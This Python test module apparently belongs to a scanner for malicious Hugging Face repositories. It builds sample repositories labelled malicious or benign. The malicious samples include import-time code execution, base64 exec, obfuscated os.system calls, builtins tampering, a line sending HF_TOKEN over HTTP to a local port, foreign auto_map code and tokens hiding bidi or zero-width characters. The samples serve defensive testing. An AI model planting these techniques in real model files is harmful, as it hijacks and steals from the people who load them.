"""Corpus: Hugging Face repository files: configs that import code, modelling code, tokenizers.

Repository-level samples build a directory (config.json beside the modelling code it names);
the corpus test scans every file in it. Victims import the modelling code with ``importlib``
exactly as ``trust_remote_code=True`` does (transformers itself is not needed for the proof),
or run the shipped script.
"""

from __future__ import annotations

import base64
import json
import sys
import textwrap
from pathlib import Path
from typing import Any

from tests.corpus import Sample

_IMPORT_MODULE = (
    "import importlib.util, os\n"
    "path = ARTIFACT if ARTIFACT.endswith('.py') else os.path.join(ARTIFACT, 'modeling_evil.py')\n"
    "spec = importlib.util.spec_from_file_location('remote_code', path)\n"
    "module = importlib.util.module_from_spec(spec)\n"
    "spec.loader.exec_module(module)\n"
)
_RUN_SCRIPT = "import subprocess\nsubprocess.run([ARTIFACT], timeout=60)\n"

BERT_CONFIG: dict[str, Any] = {
    "architectures": ["BertForMaskedLM"],
    "attention_probs_dropout_prob": 0.1,
    "gradient_checkpointing": False,
    "hidden_act": "gelu",
    "hidden_dropout_prob": 0.1,
    "hidden_size": 768,
    "initializer_range": 0.02,
    "intermediate_size": 3072,
    "layer_norm_eps": 1e-12,
    "max_position_embeddings": 512,
    "model_type": "bert",
    "num_attention_heads": 12,
    "num_hidden_layers": 12,
    "pad_token_id": 0,
    "position_embedding_type": "absolute",
    "transformers_version": "4.44.0",
    "type_vocab_size": 2,
    "use_cache": True,
    "vocab_size": 30522,
}


def _token(token_id: int, content: str, special: bool = True) -> dict[str, Any]:
    return {
        "id": token_id,
        "content": content,
        "single_word": False,
        "lstrip": False,
        "rstrip": False,
        "normalized": not special,
        "special": special,
    }


def tokenizer_json(added: list[dict[str, Any]]) -> dict[str, Any]:
    vocab = {"[PAD]": 0, "[UNK]": 100, "[CLS]": 101, "[SEP]": 102, "[MASK]": 103, "the": 1996}
    return {
        "version": "1.0",
        "truncation": None,
        "padding": None,
        "added_tokens": added,
        "normalizer": {"type": "BertNormalizer", "clean_text": True, "lowercase": True},
        "pre_tokenizer": {"type": "BertPreTokenizer"},
        "post_processor": {
            "type": "TemplateProcessing",
            "single": [{"SpecialToken": {"id": "[CLS]", "type_id": 0}}],
        },
        "decoder": {"type": "WordPiece", "prefix": "##", "cleanup": True},
        "model": {
            "type": "WordPiece",
            "unk_token": "[UNK]",
            "continuing_subword_prefix": "##",
            "max_input_chars_per_word": 100,
            "vocab": vocab,
        },
    }


BERT_ADDED = [
    _token(0, "[PAD]"),
    _token(100, "[UNK]"),
    _token(101, "[CLS]"),
    _token(102, "[SEP]"),
    _token(103, "[MASK]"),
]


def _write_json(directory: Path, name: str, content: Any) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(json.dumps(content, indent=2, ensure_ascii=False), encoding="utf-8")
    return path


def _write_text(directory: Path, name: str, content: str, executable: bool = False) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(content, encoding="utf-8")
    if executable:
        path.chmod(0o755)
    return path


_BENIGN_MODELING = '''\
"""PyTorch Tiny model, in the shape of transformers' own modelling files."""

import math
import os
from typing import Optional, Tuple

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
_CHECKPOINT_FOR_DOC = os.path.join("acme", "tiny")


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig) -> None:
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)

    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor]:
        q, k, v = self.qkv(hidden).chunk(3, dim=-1)
        scores = q @ k.transpose(-1, -2) * self.scale
        if mask is not None:
            scores = scores + mask
        return (scores.softmax(-1) @ v,)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config: TinyConfig) -> None:
        super().__init__(config)
        self.attention = TinyAttention(config)
        self.post_init()
'''


def _modeling(directory: Path, body: str, name: str = "modeling_evil.py") -> Path:
    return _write_text(directory, name, textwrap.dedent(body))


def _repo_auto_map(directory: Path, canary: Path) -> Path:
    config = dict(
        BERT_CONFIG,
        architectures=["EvilModel"],
        model_type="evil",
        auto_map={
            "AutoConfig": "configuration_evil.EvilConfig",
            "AutoModel": "modeling_evil.EvilModel",
        },
    )
    _write_json(directory, "config.json", config)
    _write_text(
        directory,
        "configuration_evil.py",
        "from transformers import PretrainedConfig\n\n\n"
        "class EvilConfig(PretrainedConfig):\n    model_type = 'evil'\n",
    )
    _modeling(
        directory,
        f"""\
        import os

        os.system("touch " + {str(canary)!r})


        class EvilModel:
            pass
        """,
    )
    return directory


def _py_base64_exec(directory: Path, canary: Path) -> Path:
    payload = base64.b64encode(f"open({str(canary)!r}, 'w').close()".encode()).decode()
    return _modeling(
        directory,
        f"""\
        import base64

        _CACHE = "{payload}"
        exec(base64.b64decode(_CACHE))
        """,
    )


def _py_obfuscated_import(directory: Path, canary: Path) -> Path:
    return _modeling(
        directory,
        f"""\
        _m = __import__("o" + "s")
        getattr(_m, "sy" + "stem")("touch " + {str(canary)!r})
        """,
    )


def _py_network(directory: Path, canary: Path) -> Path:
    return _modeling(
        directory,
        """\
        import os
        import urllib.request


        def _report():
            token = os.environ.get("HF_TOKEN", "")
            try:
                urllib.request.urlopen("http://127.0.0.1:9/collect?t=" + token, timeout=0.1)
            except OSError:
                pass


        class EvilModel:
            def __init__(self):
                _report()
        """,
    )


def _py_builtins_tamper(directory: Path, canary: Path) -> Path:
    return _modeling(
        directory,
        f"""\
        import builtins

        _real_open = builtins.open


        def _open(file, *args, **kwargs):
            _real_open({str(canary)!r}, "w").close()
            return _real_open(file, *args, **kwargs)


        builtins.open = _open
        open("/dev/null")
        """,
    )


def _py_subprocess_alias(directory: Path, canary: Path) -> Path:
    return _modeling(
        directory,
        f"""\
        from subprocess import run as _prepare_weights

        _prepare_weights(["touch", {str(canary)!r}])
        """,
    )


def _py_torch_load(directory: Path, canary: Path) -> Path:
    return _modeling(
        directory,
        """\
        import torch


        class EvilModel(torch.nn.Module):
            def load_extra(self, path):
                self.extra = torch.load(path, weights_only=False)
        """,
    )


def _config_other_repo(directory: Path, canary: Path) -> Path:
    config = dict(
        BERT_CONFIG,
        auto_map={"AutoModel": "evil-org/helpers--modeling_helper.HelperModel"},
    )
    return _write_json(directory, "config.json", config)


def _config_custom_pipeline(directory: Path, canary: Path) -> Path:
    config = dict(
        BERT_CONFIG,
        custom_pipelines={
            "text-classification": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModel"]}
        },
    )
    return _write_json(directory, "config.json", config)


def _modules_json(directory: Path, canary: Path) -> Path:
    return _write_json(
        directory,
        "modules.json",
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "evil_pooling.Pooling"},
        ],
    )


def _tokenizer_bidi(directory: Path, canary: Path) -> Path:
    added = [*BERT_ADDED, _token(30522, "<|im_start|>system\u202e", special=True)]
    return _write_json(directory, "tokenizer.json", tokenizer_json(added))


def _tokenizer_config_zero_width(directory: Path, canary: Path) -> Path:
    return _write_json(
        directory,
        "tokenizer_config.json",
        {
            "added_tokens_decoder": {
                "0": {"content": "[PAD]", "special": True},
                "30522": {"content": "<|assistant|>\u200b", "special": True},
            },
            "tokenizer_class": "BertTokenizer",
        },
    )


def _shell_script(directory: Path, canary: Path) -> Path:
    return _write_text(
        directory, "setup_model.sh", f"#!/bin/sh\ntouch {str(canary)!r}\n", executable=True
    )


def _python_script(directory: Path, canary: Path) -> Path:
    return _write_text(
        directory,
        "convert.py",
        f"#!{sys.executable}\nimport subprocess\nsubprocess.call(['touch', {str(canary)!r}])\n",
        executable=True,
    )


def _benign_repo(directory: Path, canary: Path) -> Path:
    _write_json(directory, "config.json", BERT_CONFIG)
    _write_json(
        directory, "generation_config.json", {"_from_model_config": True, "pad_token_id": 0}
    )
    _write_json(directory, "tokenizer.json", tokenizer_json(BERT_ADDED))
    _write_json(
        directory,
        "special_tokens_map.json",
        {"cls_token": "[CLS]", "mask_token": "[MASK]", "pad_token": "[PAD]", "sep_token": "[SEP]"},
    )
    _write_json(
        directory,
        "tokenizer_config.json",
        {
            "added_tokens_decoder": {
                str(t["id"]): {k: v for k, v in t.items() if k != "id"} for t in BERT_ADDED
            },
            "clean_up_tokenization_spaces": True,
            "do_lower_case": True,
            "model_max_length": 512,
            "tokenizer_class": "BertTokenizer",
        },
    )
    _write_text(directory, "vocab.txt", "[PAD]\n[UNK]\n[CLS]\n[SEP]\n[MASK]\nthe\n")
    _write_text(directory, "README.md", "---\nlicense: apache-2.0\n---\n# tiny bert\n")
    return directory


def _benign_qwen_tokens(directory: Path, canary: Path) -> Path:
    # Qwen 2.5 ships tool-call and FIM markers as non-special added tokens: legitimate.
    added = [
        _token(151643, "<|endoftext|>"),
        _token(151644, "<|im_start|>"),
        _token(151645, "<|im_end|>"),
        _token(151657, "<tool_call>", special=False),
        _token(151658, "</tool_call>", special=False),
        _token(151659, "<|fim_prefix|>", special=False),
        _token(151665, "\n\n\n", special=False),
        _token(151666, "\t\t", special=False),
    ]
    content = tokenizer_json(added)
    content["model"] = {"type": "BPE", "vocab": {"hello": 0, "world": 1}, "merges": ["h e"]}
    return _write_json(directory, "tokenizer.json", content)


def _benign_modeling(directory: Path, canary: Path) -> Path:
    return _write_text(directory, "modeling_tiny.py", _BENIGN_MODELING)


def _benign_modules_json(directory: Path, canary: Path) -> Path:
    return _write_json(
        directory,
        "modules.json",
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {
                "idx": 1,
                "name": "1",
                "path": "1_Pooling",
                "type": "sentence_transformers.models.Pooling",
            },
            {
                "idx": 2,
                "name": "2",
                "path": "2_Normalize",
                "type": "sentence_transformers.models.Normalize",
            },
        ],
    )


def _benign_preprocessor(directory: Path, canary: Path) -> Path:
    return _write_json(
        directory,
        "preprocessor_config.json",
        {
            "do_normalize": True,
            "do_resize": True,
            "image_mean": [0.485, 0.456, 0.406],
            "image_processor_type": "ViTImageProcessor",
            "image_std": [0.229, 0.224, 0.225],
            "resample": 2,
            "size": {"height": 224, "width": 224},
        },
    )


def _malicious(name: str, build: Any, rules: tuple[str, ...], technique: str, **kw: Any) -> Sample:
    return Sample(name=name, build=build, malicious=True, rules=rules, technique=technique, **kw)


SAMPLES = [
    _malicious(
        "hf-repo-auto-map-with-malicious-modeling-code",
        _repo_auto_map,
        ("MLS-CODE-002", "MLS-CFG-001"),
        "config.json auto_map naming modeling_evil.py, which runs os.system at import",
        victim=_IMPORT_MODULE,
    ),
    _malicious(
        "hf-modeling-py-base64-exec",
        _py_base64_exec,
        ("MLS-CODE-001",),
        "exec(base64.b64decode(...)) at module level",
        victim=_IMPORT_MODULE,
    ),
    _malicious(
        "hf-modeling-py-obfuscated-dynamic-import",
        _py_obfuscated_import,
        ("MLS-CODE-006", "MLS-CODE-003"),
        "__import__('o'+'s') and getattr(..., 'sy'+'stem')",
        victim=_IMPORT_MODULE,
    ),
    _malicious(
        "hf-modeling-py-subprocess-alias",
        _py_subprocess_alias,
        ("MLS-CODE-002",),
        "from subprocess import run as an innocent-looking name",
        victim=_IMPORT_MODULE,
    ),
    _malicious(
        "hf-modeling-py-builtins-tamper",
        _py_builtins_tamper,
        ("MLS-CODE-008",),
        "builtins.open replaced at import: every later open() runs the payload",
        victim=_IMPORT_MODULE,
    ),
    _malicious(
        "hf-modeling-py-token-exfiltration",
        _py_network,
        ("MLS-CODE-004",),
        "HF_TOKEN sent over HTTP when the model is instantiated",
    ),
    _malicious(
        "hf-modeling-py-torch-load-in-model-code",
        _py_torch_load,
        ("MLS-CODE-007",),
        "modelling code unpickles an extra file with torch.load(weights_only=False)",
    ),
    _malicious(
        "hf-config-auto-map-other-repository",
        _config_other_repo,
        ("MLS-CFG-002",),
        "auto_map pulling code from another, unpinned repository (org/repo--module.Class)",
    ),
    _malicious(
        "hf-config-custom-pipeline",
        _config_custom_pipeline,
        ("MLS-CFG-001",),
        "custom_pipelines implementation imported by pipeline()",
    ),
    _malicious(
        "hf-sentence-transformers-foreign-module",
        _modules_json,
        ("MLS-CFG-004",),
        "modules.json module type outside sentence_transformers",
    ),
    _malicious(
        "hf-tokenizer-json-bidi-special-token",
        _tokenizer_bidi,
        ("MLS-TOK-001",),
        "special token with a right-to-left override (U+202E)",
    ),
    _malicious(
        "hf-tokenizer-config-zero-width-special-token",
        _tokenizer_config_zero_width,
        ("MLS-TOK-001",),
        "added_tokens_decoder special token hiding a zero-width space",
    ),
    _malicious(
        "hf-shell-script-in-model-dir",
        _shell_script,
        ("MLS-CODE-010",),
        "executable shell script shipped beside the weights",
        victim=_RUN_SCRIPT,
    ),
    _malicious(
        "hf-python-script-in-model-dir",
        _python_script,
        ("MLS-CODE-002", "MLS-CODE-010"),
        "executable Python script that runs subprocess",
        victim=_RUN_SCRIPT,
    ),
    Sample(
        name="hf-repo-bert-base-files",
        build=_benign_repo,
        malicious=False,
        technique="config, generation config, tokenizer files, vocab and card of a BERT repo",
    ),
    Sample(
        name="hf-tokenizer-json-qwen-added-tokens",
        build=_benign_qwen_tokens,
        malicious=False,
        technique="Qwen-style added tokens, some legitimately non-special",
    ),
    Sample(
        name="hf-modeling-py-ordinary-model-code",
        build=_benign_modeling,
        malicious=False,
        technique="modelling code that imports torch, math and os.path only",
    ),
    Sample(
        name="hf-sentence-transformers-modules-json",
        build=_benign_modules_json,
        malicious=False,
        technique="modules.json with the library's own module types",
    ),
    Sample(
        name="hf-preprocessor-config",
        build=_benign_preprocessor,
        malicious=False,
        technique="an image processor config",
    ),
]
